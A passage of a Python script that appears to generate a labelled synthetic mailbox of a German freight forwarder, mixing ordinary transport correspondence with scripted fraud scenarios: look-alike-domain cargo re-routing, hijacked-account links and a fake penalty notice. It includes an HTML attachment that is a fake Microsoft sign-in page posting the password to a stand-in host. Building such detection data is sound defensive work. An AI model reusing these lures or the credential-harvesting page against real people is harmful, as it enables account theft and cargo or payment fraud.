       "einmal anschauen? Ich möchte das nicht einfach so akzeptieren.", at(2025, 3, 11, 9, 48), GH,
       scen=("G20", "shipper revives a closed complaint thread after five months with a new photo"),
       atts=[("Staalservice_Kraanfoto_07102024.jpg", jpeg("Canon", "Canon EOS 250D", "2024:10:07 13:52:10", 90), "image/jpeg")])
t3.add(me, "Hallo Herr Brinkmann,\n\nich habe das Foto an Verhoeven weitergeleitet. Auf dem Bild liegt das Coil schon auf dem Boden des Kunden - das spricht eher "
       "für einen Schaden beim Abheben. Ich gebe Ihnen bis Ende der Woche Bescheid.", at(2025, 3, 11, 11, 30))
t3.add(joerg, "Danke, Frau Brückner. Staalservice hat nach unserem Hinweis auf den fehlenden Vorbehalt nachgegeben. Jetzt ist es aber wirklich erledigt. ;-)",
       at(2025, 3, 14, 10, 2))

# ================================================================ T6 Schürmann pickup 25-0412; A13 look-alike re-routes the load; G19 iPhone at night
t6 = Thread("T6", joerg, "Abholung Auftrag 25-0412 - Fr. 25.04., 3 Coils nach Genk")
t6.add(joerg, "Hallo Frau Brückner,\n\nfür Freitag, 25.04., bitte drei Coils (je ca. 22 t) ab Hochfeld nach Genk, Empfänger Limburg Steel Processing NV, "
       "Hoevenzavellaan 25, 3600 Genk. Ladezeit 06:00-08:00, Anlieferung bis 13:00.\nLadereferenzen LA-25-1187 bis LA-25-1189, Abholnummer für die Waage: 77412.",
       at(2025, 4, 22, 10, 12))
t6.add(me, "Hallo Herr Brinkmann,\n\nbestätigt: drei Coilmulden von Verhoeven, Ladebeginn 06:00. Die Kennzeichen schicke ich Ihnen am Donnerstag.",
       at(2025, 4, 22, 11, 30))
t6.add(joerg, "Danke. Bitte daran denken: Genk nimmt nur mit Zeitfenster an, die Buchung macht der Kunde, Slot 10:30.", at(2025, 4, 22, 11, 48))
look = Pt("Jörg Brinkmann", "j.brinkmann@schuerman-stahl.example", "exode", "exo-lookalike",
          joerg.sig.replace("M +49 160 555 9127", "M +49 157 5550 3318").replace("www.schuermann-stahl.example", "www.schuerman-stahl.example"))
EXOH[look] = ("FR6P281MB3892", "DEUP281")
t6.add(look, "Hallo Frau Brückner,\n\nkurze Änderung zu Freitag: Limburg Steel hat uns heute mitgeteilt, dass in Genk die Spaltanlage bis Mitte nächster Woche "
       "steht und sie die Coils nicht annehmen können. Damit die Ware nicht bei uns im Weg liegt, haben wir mit dem Kunden vereinbart, die drei Coils "
       "vorübergehend bei einem Lagerdienstleister zwischenzulagern:\n\nNRS Niederrhein Stahlservice\nHalle 3, Graf-Luckner-Straße 40\n47443 Moers-Genend\n"
       "Ansprechpartner vor Ort: Herr Wolters, mobil 0157 5550 3318\n\nLadezeit in Hochfeld bleibt gleich, die Lkw fahren dann direkt nach Moers statt Genk - "
       "die Fracht rechnen Sie bitte wie beauftragt ab. Bitte geben Sie den Fahrern die neue Entladestelle und rufen Sie Herrn Wolters vorab mit den "
       "Kennzeichen und der voraussichtlichen Ankunftszeit an, er organisiert den Kran.\n\nDie Lieferscheine ändern wir hier, die Fahrer bekommen sie wie "
       "immer an der Waage. Den Slot in Genk storniert der Kunde selbst.", at(2025, 4, 23, 16, 52), HJ("lookalike-domain"), detached=True,
       fromdom="schuerman-stahl.example",
       scen=("A13", "look-alike shipper domain (schuerman-stahl, new M365 tenant) re-routes the pickup to a 'temporary store', phone number to call, real quote"))
t6.add(me, "Hallo Herr Brinkmann,\n\nwie eben telefonisch besprochen: Die Mail von gestern 16:52 mit der Umleitung nach Moers kam von der Domain "
       "„schuerman-stahl.example“ (ein n fehlt) und nicht von Ihnen. Wir fahren wie beauftragt nach Genk. Die Mail leite ich Ihrer IT weiter; "
       "wir haben die Absenderdomain bei uns gesperrt.\n\nKennzeichen für Freitag: VZ-412-K, VZ-388-K, VZ-501-T.", at(2025, 4, 24, 8, 41))
t6.add(joerg, "Hallo Frau Brückner, danke nochmal für den Anruf heute Morgen. Kurze Info für morgen: In Genk ist Rampe 3 ab 10:00 frei, der Slot bleibt 10:30.\n"
       "Gruß J. Brinkmann\n\nVon meinem iPhone gesendet", at(2025, 4, 24, 22, 41), GH, sig=False, client="iphoneexo",
       scen=("G19", "shipper's Versandleiter replies from his iPhone (iOS Mail via the same M365 tenant) at 22:41"))
t6.add(me, "Danke, gebe ich den Fahrern durch.", at(2025, 4, 25, 6, 12))
t6.add(joerg, "Alle drei Coils sind in Genk abgeladen. Schönes Wochenende!", at(2025, 4, 25, 14, 40))

# ================================================================ T9 Weidner groupage wk 8; A3 server hijack (Dropbox "POD" link, English)
t9 = Thread("T9", claudia, "Sammelsendung Lacke KW 8 - Rotterdam / Moerdijk")
t9.add(claudia, "Sehr geehrte Frau Brückner,\n\nin KW 8 haben wir zwei Teilpartien nach NL: 6 Paletten nach Rotterdam (Botlek, Empfänger Maasvlakte Coatings BV) "
       "und 9 Paletten nach Moerdijk (Empfänger Zuidhaven Chemie BV). Alles Nicht-Gefahrgut. Abholung Dienstag 18.02. ab 08:00, den Slot habe ich gebucht.\n\n"
       "Können Sie das als Sammeltour fahren?", at(2025, 2, 10, 10, 5))
t9.add(me, "Sehr geehrte Frau Reuter,\n\nja, das fahren wir als Sammeltour mit einem Planensattel: zuerst Moerdijk, dann Rotterdam. Preis 790,00 € netto "
       "gesamt, unser Auftrag 25-0207.", at(2025, 2, 10, 11, 20), to=[(claudia.disp, claudia.email)])
t9.add(claudia, "Einverstanden. Die Lieferscheine bekommt der Fahrer bei der Verladung. Bitte nach Zustellung die PODs an mich.", at(2025, 2, 10, 13, 2))
t9.add(me, "Sehr geehrte Frau Reuter,\n\nbeide Teilpartien wurden gestern zugestellt, die unterschriebenen CMR anbei.", at(2025, 2, 19, 10, 15),
       to=[(claudia.disp, claudia.email)],
       atts=[("CMR_25-0207_Moerdijk.pdf", pdf(["CMR 25-0207/1", "Empfänger Zuidhaven Chemie BV, Moerdijk", "9 Paletten, 5.420 kg", "Ontvangen zonder voorbehoud 18-02-2025"],
                                              producer="Canon iR-ADV C5535 Scan", when="20250219100500"), "application/pdf"),
             ("CMR_25-0207_Rotterdam.pdf", pdf(["CMR 25-0207/2", "Empfänger Maasvlakte Coatings BV, Rotterdam-Botlek", "6 Paletten, 3.310 kg", "Ontvangen 18-02-2025 13:40"],
                                               producer="Canon iR-ADV C5535 Scan", when="20250219100600"), "application/pdf")])
t9.add(claudia, "Danke, erhalten.", at(2025, 2, 19, 11, 0))
DBX = f"https://www.dropbox.com/scl/fi/{alnum(21).lower()}/Weidner_Lieferschein_POD_KW8.zip?rlkey={alnum(25).lower()}&st={alnum(8).lower()}&dl=0"
t9.add(claudia, "Hello,\n\nPlease find below the link to the delivery note and POD documents for the shipment. Kindly review and confirm that the signed copies "
       f"match your records.\n\nView documents: {DBX}\n\nBest regards,\nClaudia Reuter", at(2025, 2, 20, 17, 48), HJ("server-hijack"), detached=True,
       sigtext=WEIDNER_FOOT, qrec=3, refs=list(t9.refs[:4]),
       scen=("A3", "shipper's real Exchange 2016/IronPort path (legal footer added by the gateway): English 'delivery note / POD' Dropbox link in a German thread"))
t9.add(claudia, "Sehr geehrte Frau Brückner,\n\nbitte ignorieren Sie die gestrige englische Mail mit dem Dropbox-Link, die stammt nicht von mir. Unsere IT prüft "
       "gerade mein Postfach. Lieferscheine versenden wir grundsätzlich nicht über Dropbox.", at(2025, 2, 21, 8, 12))

# ================================================================ O1 Weidner reply-all to a mail Lukas sent alone (parent not in mailbox)
lukas_mid = f"<{hx(32)}@RPS-EX01.rheinport.local>"
lukas_q = ("Sehr geehrte Frau Reuter,\n\nfür die ADR-Abholung 25-0301 am Donnerstag, 20.03.: Fahrzeug DU-RP 220 / Auflieger DU-RP 871, Fahrer Sven Hollmann "
           "(ADR-Basisschein bis 2027). Bitte bestätigen Sie das Zeitfenster.\n\nViele Grüße\nLukas Berger\nDisposition | Rheinport Spedition GmbH\nTel. +49 2065 555-216")
o1_plain = ("Sehr geehrter Herr Berger,\n\ndanke für die Fahrzeugdaten. Die Abholung am Donnerstag ist im Portal gebucht, Tor 4, 09:00. Frau Brückner setze ich "
            "in Kopie, da sie die ADR-Sendungen bisher immer betreut hat." + claudia.sig)
o1_q = (f"Von: Lukas Berger [mailto:l.berger@{OWN}] \nGesendet: Dienstag, 18. März 2025 14:02\nAn: {claudia.disp} <{claudia.email}>\n"
        "Betreff: Abholung 25-0301 ADR - Fahrzeugdaten", lukas_q, "ms")
emit(claudia, "ex16", at(2025, 3, 18, 15, 26), [(berger.name, berger.email)], [(me.name, me.email)], "AW: Abholung 25-0301 ADR - Fahrzeugdaten", [lukas_mid],
     o1_plain + render_quote_plain(*o1_q), quote=o1_q, label=GO, topic="Abholung 25-0301 ADR - Fahrzeugdaten",
     scen=("O1", "shipper replies-all to a mail the new colleague sent alone, adding Melanie in Cc (parent not in the mailbox)"))

# ================================================================ T11 Brandt order Tilburg; A7 account takeover (IONOS webmail) with altered quote
t11 = Thread("T11", tanja, "Auftrag Tilburg 13.02. - 22 Paletten Van Gelder")
t11.add(tanja, "Hallo Frau Brückner,\n\nzusätzlich zur Breda-Tour hätten wir eine Sonderlieferung: 22 Paletten Faltschachteln an Van Gelder Retail, DC Tilburg, "
        "Tradeparc 11, 5047 RM Tilburg. Abholung Mittwoch 12.02., Anlieferung Donnerstag 13.02. 08:00-12:00.", at(2025, 2, 10, 9, 30), cc=[(frank.name, frank.email)])
conf = ("Hallo Frau Wolff,\n\nbestätigt, Auftrag 25-0219:\nAbholung: Mi. 12.02., 07:00-09:00, Brandt Verpackungen, Oberhausen\n"
        "Anlieferung: Do. 13.02., 08:00-12:00, Van Gelder Retail DC Tilburg, Tradeparc 11, 5047 RM Tilburg\nPreis: 540,00 € netto.")
t11.add(me, conf, at(2025, 2, 10, 10, 50), to=[(tanja.name, tanja.email)], cc=[(frank.name, frank.email)])
t11.add(tanja, "Prima, danke!", at(2025, 2, 10, 11, 12), cc=[(frank.name, frank.email)])
altered = t11.recs[1]["plain"].replace("Anlieferung: Do. 13.02., 08:00-12:00, Van Gelder Retail DC Tilburg, Tradeparc 11, 5047 RM Tilburg",
                                       "Anlieferung: Do. 13.02., 08:00-12:00, Van Gelder Retail Außenlager, Industriestraße 18, 41334 Nettetal-Kaldenkirchen")
assert altered != t11.recs[1]["plain"]
t11.add(frank, "Guten Abend Frau Brückner,\n\nwie heute Nachmittag mit Ihrem Kollegen am Telefon abgestimmt (siehe Ihre Bestätigung unten): Die 22 Paletten "
        "gehen morgen nicht nach Tilburg, sondern in das Außenlager von Van Gelder in Kaldenkirchen, das DC Tilburg nimmt wegen Inventur diese Woche nichts an. "
        "Ansprechpartner dort ist Herr de Boer, +31 6 5550 1187, bitte den Fahrer vorher anrufen lassen.\n\nFrau Wolff ist morgen nicht im Haus, bei Rückfragen "
        "bitte direkt an mich.\n\nMit freundlichen Grüßen\nFrank Brandt", at(2025, 2, 12, 21, 37), HJ("account-takeover"), sig=False, detached=True, client="ox",
        qrec=1, quote_text=altered, refs=list(t11.refs[:2]), to=[(me.name, me.email)],
        scen=("A7", "shipper MD's IONOS account via IONOS webmail (OX) at 21:37: delivery re-routed, quoted confirmation altered to show the new address"))
t11.add(me, "Guten Morgen Frau Wolff, guten Morgen Herr Brandt,\n\nwir haben gestern um 21:37 eine Mail von Herrn Brandts Adresse bekommen, nach der die Ware "
        "heute nach Kaldenkirchen statt Tilburg gehen soll - angeblich mit unserer Zustimmung. Wir haben nichts dergleichen bestätigt. Bis ich von Ihnen "
        "telefonisch eine Bestätigung habe, fährt unser Fahrer wie vereinbart nach Tilburg. Bitte rufen Sie mich kurz an: 02065 555-214.",
        at(2025, 2, 13, 7, 5), to=[(tanja.name, tanja.email)], cc=[(frank.name, frank.email)])
t11.add(tanja, "Guten Morgen Frau Brückner,\n\ndanke, dass Sie nachgefragt haben! Die Mail ist nicht von Herrn Brandt - sein Konto wurde offenbar gehackt, wir "
        "ändern gerade alle Passwörter. Bitte wie geplant nach Tilburg liefern, Van Gelder hat keine Inventur.", at(2025, 2, 13, 7, 48), cc=[(frank.name, frank.email)])
t11.add(frank, "Frau Brückner, auch von mir vielen Dank. Das Passwort ist geändert, IONOS hat die Anmeldung aus dem Ausland bestätigt. Wir stellen im April "
        "ohnehin auf Microsoft 365 um.", at(2025, 2, 13, 10, 20))

# ================================================================ T12 Brandt: announced move to Microsoft 365, then mail from the new system (G33)
emit(frank, "tbde", at(2025, 3, 31, 9, 0), [(frank.name, frank.email)], None, "Umstellung unserer E-Mail auf Microsoft 365 am 07.04.", [],
     "Sehr geehrte Geschäftspartner,\n\nam Montag, 07.04.2025, stellen wir unsere E-Mail-Postfächer auf Microsoft 365 um. Unsere Adressen bleiben unverändert. "
     "Am Umstellungstag kann es zu kurzen Verzögerungen kommen.\n\nWichtig: Unsere Bankverbindung ändert sich NICHT. Bitte ändern Sie niemals Bankdaten "
     "aufgrund einer E-Mail, sondern rufen Sie uns an.\n\nMit freundlichen Grüßen" + frank.sig)
EXOH[tanja] = ("FR3P281MB1647", "DEUP281"); EXOH[frank] = ("FR3P281MB1702", "DEUP281")
t12 = Thread("T12", tanja, "Tourenplanung Mai/Juni - Breda und Tilburg")
t12.add(me, "Hallo Frau Wolff,\n\nkönnen Sie mir für Mai und Juni eine Vorschau der Mengen nach Breda und Tilburg geben? Verhoeven plant die Sommerkapazität.",
        at(2025, 5, 5, 10, 10))
t12.add(tanja, "Hallo Frau Brückner,\n\ngern: Breda weiter jeden Donnerstag 20-26 Paletten, Tilburg zusätzlich alle zwei Wochen ca. 18 Paletten (KW 20, 22, 24, 26). "
        "Die Tagesmengen kommen wie gewohnt mittwochs.\n\nP.S. Wir sind jetzt auf Microsoft 365, falls die Mails etwas anders aussehen.", at(2025, 5, 6, 10, 32),
        GH, client="exode", infra="exo-brandt", sigtext="\n\nViele Grüße\n\nTanja Wolff\nVersand / Auftragsabwicklung\nBrandt Verpackungen GmbH · Im Lipperfeld 7 · 46047 Oberhausen\nTel. 0208 555 7714",
        scen=("G33", "shipper writes from its new Microsoft 365 tenant (move announced by mail five weeks earlier)"))
t12.add(me, "Danke, Frau Wolff, das gebe ich so an Verhoeven.", at(2025, 5, 6, 11, 5))
t12.add(tanja, "Kleine Korrektur: In KW 22 fällt Tilburg wegen Feiertag (Christi Himmelfahrt) auf Mittwoch.", at(2025, 5, 7, 8, 55), client="exode", infra="exo-brandt",
        sigtext="\n\nViele Grüße\n\nTanja Wolff\nVersand / Auftragsabwicklung\nBrandt Verpackungen GmbH · Im Lipperfeld 7 · 46047 Oberhausen\nTel. 0208 555 7714")

# ================================================================ T18 Zawadzki order 25-0107: damaged-pallet photo at 05:12 (G2)
t18 = Thread("T18", piotr, "Auftrag 25-0107 Duisburg - Wrocław")
t18.add(me, "Hallo Herr Zawadzki,\n\nTransportauftrag 25-0107 anbei: Abholung Dienstag 14.01. 09:00 Logport I, 18 Paletten Dämmstoff (leicht, 4,2 t, aber volle "
        "Ladelänge), Zustellung Donnerstag 16.01. 07:00-12:00 in Wrocław, Termoizol Sp. z o.o., ul. Krakowska 180. Preis 1.050 EUR.", at(2025, 1, 13, 10, 0),
        atts=[order_pdf("25-0107", ["Frachtführer: Zawadzki Transport, Łódź", "Abholung 14.01.2025 09:00 Logport I", "Zustellung 16.01.2025 Termoizol, Wrocław",
                                    "18 Paletten Dämmstoff, 4.200 kg, 13,6 Lademeter", "Fracht: 1.050,00 EUR"], "20250113095800")])
t18.add(piotr, "Dzień dobry, ok. Wtorek 9:00, auto to samo, EL 5R112.", at(2025, 1, 13, 12, 33, WAW))
t18.add(piotr, "Dzień dobry, jestem już pod Termoizol. Jedna paleta (nr 14) uszkodzona - folia rozerwana, ktoś otwierał w nocy na parkingu?? Zdjęcie w "
        "załączniku. Co robić, wpisać na CMR?\n\n(Eine Palette beschädigt, Folie aufgerissen, Foto anbei. Auf CMR vermerken?)", at(2025, 1, 16, 5, 12, WAW), GH,
        scen=("G2", "owner-driver sends a photo of a damaged pallet from the Gmail app at 05:12, Polish with a German line"),
        atts=[("IMG_20250116_050811.jpg", jpeg("samsung", "SM-A346B", "2025:01:16 05:08:11", 75), "image/jpeg")])
t18.add(me, "Guten Morgen Herr Zawadzki,\n\ndanke für das Foto. Ja, bitte unbedingt auf dem CMR in Feld 18 vermerken („1 Palette Folie beschädigt, Inhalt "
        "augenscheinlich vollständig“) und vom Empfänger gegenzeichnen lassen. War die Plane unversehrt?", at(2025, 1, 16, 7, 20))
t18.add(piotr, "Ok, vermerkt, Empfänger hat unterschrieben. Plane war in Ordnung, nur diese Palette. Kunde nimmt alles.", at(2025, 1, 16, 8, 2, WAW))
kargo_pod(at(2025, 1, 16, 19, 22, WAW), "25-0107", "Termoizol Sp. z o.o., Wrocław", "M. Lis", "16.01.2025 08:40", 2)

# ================================================================ T19 Zawadzki order 25-0355; A8 account takeover of his Gmail (e-TOLL penalty, Google Slides link)
t19 = Thread("T19", piotr, "Auftrag 25-0355 Oberhausen - Łódź")
t19.add(me, "Hallo Herr Zawadzki,\n\nAuftrag 25-0355: Abholung Mittwoch 09.04. 10:00 bei Brandt Verpackungen, Oberhausen (Im Lipperfeld 7), 20 Paletten "
        "Kartonagen, Zustellung Freitag 11.04. in Łódź, Papirex, ul. Srebrzyńska 44. Preis 1.020 EUR.", at(2025, 4, 7, 9, 15),
        atts=[order_pdf("25-0355", ["Frachtführer: Zawadzki Transport, Łódź", "Abholung 09.04.2025 10:00 Brandt Verpackungen, Oberhausen",
                                    "Zustellung 11.04.2025 Papirex, Łódź", "20 Paletten Kartonagen", "Fracht: 1.020,00 EUR"], "20250407091300")])
t19.add(piotr, "Ok, potwierdzam. Środa 10:00 Oberhausen.", at(2025, 4, 7, 11, 45, WAW))
t19.add(piotr, "Dzień dobry, Papirex nie rozładuje do poniedziałku - brak miejsca w magazynie. Stoję od 8:00. Standgeld?\n(Papirex lädt erst Montag ab, "
        "kein Platz. Ich warte seit 8:00.)", at(2025, 4, 11, 13, 20, WAW))
t19.add(me, "Hallo Herr Zawadzki,\n\nich habe mit Papirex gesprochen: Sie laden heute um 15:30 doch noch ab. Das Standgeld ab 10:00 (2 Std. frei) übernehmen "
        "wir, bitte die Wartezeit auf dem CMR bestätigen lassen.", at(2025, 4, 11, 14, 5))
t19.add(piotr, "Rozładowane 15:50, Wartezeit auf CMR bestätigt. Dziękuję!", at(2025, 4, 11, 16, 10, WAW))
GSL = f"https://docs.google.com/presentation/d/1{alnum(43)}/edit?usp=sharing"
t19.add(piotr, "Hello Melanie,\n\nWe received a penalty notice from the Polish e-TOLL system for the route of your order 25-0355 (missing toll registration "
        "on the A2 section, vehicle EL 5R112). The amount is 1,500 PLN and must be settled within 7 days, otherwise the vehicle is blocked.\n\n"
        f"As the toll was part of your transport order, please review the notice and the payment instructions here:\n{GSL}\n\nPlease confirm today.\n\n"
        "Thank you\nPiotr Zawadzki", at(2025, 4, 15, 3, 26, LAG), HJ("account-takeover"), sig=False, detached=True, client="gmailen", date_tz=LAG,
        qrec=3, refs=list(t19.refs[:4]),
        scen=("A8", "owner-driver's real Gmail used via Gmail web (English UI, +0100 offset, 03:26): 'e-TOLL penalty' on a Google Slides link"))

# ================================================================ T20 Verhoeven rates 2025; A5 server hijack (HTML 'rate sheet', fake sign-in)
t20 = Thread("T20", ruud, "Rates 2025 and diesel surcharge")
t20.add(ruud, "Dear Melanie,\n\nattached our rate sheet for 2025 for your regular lanes (Duisburg - Venlo / Genk / Antwerp / Rotterdam). Base rates increase by "
        "3.5 % from 1 February; from then the diesel floater is calculated monthly on the CBS diesel index (base 1.62 EUR/l), published on our website on "
        "the first working day of each month.\n\nLet me know if you want to discuss.", at(2024, 12, 3, 10, 20, AMS),
        atts=[("Verhoeven_Tarieven_2025_Rheinport.pdf", pdf(["Verhoeven Transport B.V. - Tarieven 2025 Rheinport Spedition", "Duisburg - Venlo coil: 559 EUR",
                                                            "Duisburg - Genk coil: 742 EUR", "Duisburg - Antwerpen: 868 EUR", "Duisburg - Rotterdam: 812 EUR",
                                                            "Dieselfloater: maandelijks, basis 1,62 EUR/l"], producer="Microsoft® Excel® for Microsoft 365", when="20241203100500"),
               "application/pdf")])
t20.add(me, "Dear Ruud,\n\nthank you. 3.5 % is acceptable for the coil lanes if the coil-well trailers stay reserved for us (at least 3 per day). For the floater "
        "we would prefer a quarterly adjustment - monthly is a lot of administration on both sides. Can we talk about that in January?", at(2024, 12, 4, 11, 0))
t20.add(ruud, "Dear Melanie,\n\nthree coil-well trailers per day are fine. Quarterly floater: agreed, based on the average of the three months. I'll send an "
        "updated sheet in January. Marloes keeps doing the daily planning.", at(2024, 12, 4, 15, 45, AMS))
t20.add(marloes, "Hi Melanie,\n\non behalf of Ruud: attached the updated rate sheet 2025 (rev. 1) with the quarterly floater. The Q1 floater is +0.0 % (index "
        "within the base range). Please sign page 2 and send it back.", at(2025, 1, 14, 14, 10, AMS),
        atts=[("Verhoeven_Tarieven_2025_rev1.pdf", pdf(["Verhoeven Transport B.V. - Tarieven 2025 (rev. 1)", "Dieselfloater: per kwartaal, gemiddelde van 3 maanden",
                                                       "Q1 2025: +0,0 %", "Pagina 2: handtekening opdrachtgever"], producer="Microsoft® Excel® for Microsoft 365", when="20250114140200"),
               "application/pdf")])
t20.add(me, "Hi Marloes,\n\nthe signed copy is attached. Thank you!", at(2025, 1, 15, 9, 20),
        atts=[("Verhoeven_Tarieven_2025_rev1_signed.pdf", pdf(["Verhoeven Transport B.V. - Tarieven 2025 (rev. 1)", "Akzeptiert: Rheinport Spedition GmbH",
                                                              "Duisburg, 15.01.2025, i.A. M. Brückner"], producer="Canon iR-ADV C5535 Scan", when="20250115091500"), "application/pdf")])
PH_URL = f"https://m365-docview.example/owa/auth.php?d=verhoeven&s={alnum(16)}"
html_att = ('<!DOCTYPE html>\n<html lang="en"><head><meta charset="utf-8"><title>Verhoeven Transport - Tarieven 2025 rev2</title>\n'
            '<style>body{font-family:"Segoe UI",sans-serif;background:#f3f2f1;margin:0}.box{width:380px;margin:80px auto;background:#fff;padding:40px;'
            'box-shadow:0 2px 6px rgba(0,0,0,.2)}input{width:100%;padding:8px;margin:8px 0;border:none;border-bottom:1px solid #666}button{background:#0067b8;'
            'color:#fff;border:0;padding:8px 30px;float:right}</style></head>\n<body><div class="box"><img src="https://aadcdn.msftauth.example/shared/1.0/content/images/microsoft_logo.svg" '
            'width="108"><h2>Sign in to view document</h2><p>Verhoeven_Tarieven_2025_rev2.xlsx is protected. Confirm your identity to continue.</p>\n'
            f'<form method="post" action="{PH_URL}"><input type="email" name="login" value="m.brueckner@rheinport-spedition.example">'
            '<input type="password" name="passwd" placeholder="Password"><button type="submit">Sign in</button></form></div>\n'
            '</body></html>\n')
t20.add(marloes, "Hi Melanie,\n\nfollowing up on the rate sheet 2025 (rev. 1): the floater table was recalculated after the January diesel index came in higher "
        "than expected, so Q1 moves to +1.8 %. Ruud asked me to get your confirmation before the February invoices go out on Friday.\n\nThe new sheet is "
        "attached - it opens in the browser, you only need to sign in with your company e-mail to view it (we protected it because of the pricing).",
        at(2025, 2, 4, 15, 22, AMS), HJ("server-hijack"), detached=True,
        atts=[("Verhoeven_Tarieven_2025_rev2.html", html_att.encode(), "text/html")],
        scen=("A5", "haulier's real M365/Outlook NL (same headers): context-aware diesel-floater follow-up with an .html 'rate sheet' that is a fake sign-in page"))
t20.add(marloes, "Hi Melanie,\n\nquick question about next week: can we load the Genk coils on Monday afternoon instead of Tuesday morning? We have a driver free.",
        at(2025, 2, 5, 9, 12, AMS))
t20.add(me, "Hi Marloes,\n\nMonday afternoon is fine if Schürmann can load - I'll check and confirm by noon.\n\nBy the way: yesterday I received an HTML "
        "'rate sheet rev. 2' from your address asking me to sign in. I did not open it. Was that really from you?", at(2025, 2, 5, 9, 40))
t20.add(marloes, "Hi Melanie,\n\nno, that was not us - thank you for asking! Our IT found a forwarding rule in my mailbox that was created last week; they have "
        "reset my password and removed the rule. The rates stay as in rev. 1. Monday afternoon for Genk - please confirm when Schürmann agrees.",
        at(2025, 2, 5, 10, 30, AMS))

# ================================================================ T22 Verhoeven: new planner (G17)
t22 = Thread("T22", marloes, "New colleague in our planning team")
t22.add(marloes, "Hi Melanie,\n\nfrom today Thijs Bakker joins our international planning team. He will take over the Duisburg coil lanes from mid-March, I "
        "stay on the Rotterdam and Antwerp groupage. Thijs is in copy; his direct line is +31 77 555 8824.", at(2025, 3, 3, 9, 0, AMS), cc=[(thijs.name, thijs.email)])
t22.add(me, "Hi Marloes, hi Thijs,\n\nwelcome, Thijs! I'll send the coil orders to you from week 12 then. Our standard loading instructions for Schürmann are "
        "attached.", at(2025, 3, 3, 10, 15), cc=[(thijs.name, thijs.email)],
        atts=[("Ladeanweisung_Schuermann_Coils_2025.pdf", pdf(["Rheinport Spedition - Ladeanweisung Schürmann Stahlhandel", "Coilmulde, Kantenschutz, Antirutschmatten",
                                                              "Anmeldung Waage Tor 1, Ladezeiten 05:30-14:00"], when="20250228113000"), "application/pdf")])
t22.add(thijs, "Hi Melanie,\n\nthank you for the warm welcome and the instructions. I've read them - one question: do the Schürmann drivers need their own edge "
        "protectors or are they provided at the loading site?\n\nLooking forward to working together.", at(2025, 3, 3, 11, 2, AMS), GH,
        cc=[(marloes.name, marloes.email)], scen=("G17", "haulier's new planner (introduced by his colleague in this thread) writes for the first time"))
t22.add(me, "Hi Thijs,\n\ngood question: the drivers bring their own edge protectors and anti-slip mats; Schürmann only provides the timber for the coil wells.",
        at(2025, 3, 3, 11, 30), to=[(thijs.name, thijs.email)])
t22.add(thijs, "Clear, thanks. I've added it to our driver briefing.", at(2025, 3, 3, 11, 44, AMS))

# ================================================================ T23 Verhoeven planning wk 19: out-of-office (G32), colleague answers the forward
t23 = Thread("T23", marloes, "Planning week 19 - Rotterdam groupage")
t23.add(me, "Hi Marloes,\n\nfor week 19 I have two groupage loads for Rotterdam (Weidner, 7 and 9 pallets), Tuesday and Thursday. Can you take them?",
        at(2025, 5, 2, 8, 30))
ooo = ("Thank you for your e-mail. I am out of the office until Monday 12 May with limited access to e-mail. For planning please contact "
       "planning@verhoeven-transport.example or my colleague Thijs Bakker (+31 77 555 8824).\n\nBedankt voor uw e-mail. Ik ben tot en met vrijdag 9 mei "
       "afwezig. Voor planning kunt u contact opnemen met planning@verhoeven-transport.example of met Thijs Bakker.")
t23.add(marloes, ooo, at(2025, 5, 2, 8, 30, AMS) + datetime.timedelta(seconds=40), GH, sig=False, quote=False, detached=True,
        subj="Automatisch antwoord: Planning week 19 - Rotterdam groupage",
        extra=[("Auto-Submitted", "auto-replied"), ("X-Auto-Response-Suppress", "All"), ("X-MS-Exchange-Inbox-Rules-Loop", marloes.email)],
        scen=("G32", "haulier planner's Outlook out-of-office auto-reply"))
t23b = Thread("T23b", thijs, "WG: Planning week 19 - Rotterdam groupage")
t23b.add(me, "Hi Thijs,\n\nMarloes is away - could you have a look at this?\n\n" + "Von: Melanie Brückner\nGesendet: Freitag, 2. Mai 2025 08:30\nAn: Marloes Hendriks "
         f"<{marloes.email}>\nBetreff: Planning week 19 - Rotterdam groupage\n\n" + t23.last["plain"], at(2025, 5, 2, 8, 45), sig=False)
t23b.add(thijs, "Hi Melanie,\n\nboth Rotterdam loads are fine, the plates follow on Monday.", at(2025, 5, 2, 10, 20, AMS))
t23b.add(me, "Great, thank you Thijs!", at(2025, 5, 2, 10, 41))

# ================================================================ T25 TransCarpatia invoices: real bank change, announced, letter, call-back (G3-G5)
t25 = Thread("T25", andreea, "Invoice TC-2025-0042 - Rheinport Spedition")
t25.add(andreea, "Dear Ms Brückner,\n\nplease find attached invoice TC-2025-0042 for January (4 groupage departures), total 6,380.00 EUR, payable within 30 days "
        f"to our account at Banca Transilvania, IBAN {IBAN_TC_OLD}, SWIFT BTRLRO22.", at(2025, 1, 31, 11, 5, BUC),
        atts=[("TC-2025-0042.pdf", pdf(["TRANSCARPATIA SRL - Factura / Invoice TC-2025-0042", "Client: Rheinport Spedition GmbH, Duisburg", "Groupage Duisburg - Arad, 4 departures (January 2025)",
                                        "Total: 6.380,00 EUR (taxare inversa)", f"IBAN {IBAN_TC_OLD} (Banca Transilvania)"], producer="SmartBill", when="20250131110000", zone="+02'00'"),
               "application/pdf")])
t25.add(me, "Dear Ms Stan,\n\nthank you, forwarded to accounting.", at(2025, 1, 31, 12, 0))
letter = pdf(["TRANSCARPATIA SRL - Calea Aurel Vlaicu 276, 310141 Arad", "Arad, 21.02.2025", "To our business partners - Change of bank account",
              "From 01.03.2025 please use only our new account:", "ING Bank N.V. Amsterdam - Sucursala Bucuresti", f"IBAN {IBAN_TC_NEW}", "SWIFT INGBROBU",
              f"The account at Banca Transilvania ({IBAN_TC_OLD}) stays open until 31.03.2025.", "Please confirm by phone: Mihai Ionescu, +40 744 555 318",
              "Mihai Ionescu, Administrator (signature, company stamp)"], producer="Canon iR-ADV C3530 Scan", when="20250221161200", zone="+02'00'")
t25.add(andreea, "Dear Ms Brückner,\n\nas Mihai mentioned to you on the phone last week, we are moving our business accounts from Banca Transilvania to ING "
        "Bank România from 1 March 2025. Please find attached our official letter signed by our administrator with the new account details. Invoice "
        "TC-2025-0042 can still be paid to the old account until the end of February.\n\nFor your security, please confirm the change by phone with Mihai "
        "(+40 744 555 318) before you update your records.", at(2025, 2, 24, 10, 30, BUC), GH,
        atts=[("TransCarpatia_schimbare_cont_bancar_2025.pdf", letter, "application/pdf")],
        scen=("G3", "haulier's accounting sends the signed bank-change letter, announced by phone and asking for a call-back"))
t25.add(me, "Dear Ms Stan, dear Mihai,\n\nthank you for the letter. As you suggested, I called Mihai today at 11:02 on the mobile number we have had on file "
        "since October, and he confirmed the new account at ING Bank România (IBAN ending 7731). I have passed the letter to our accounting; the change "
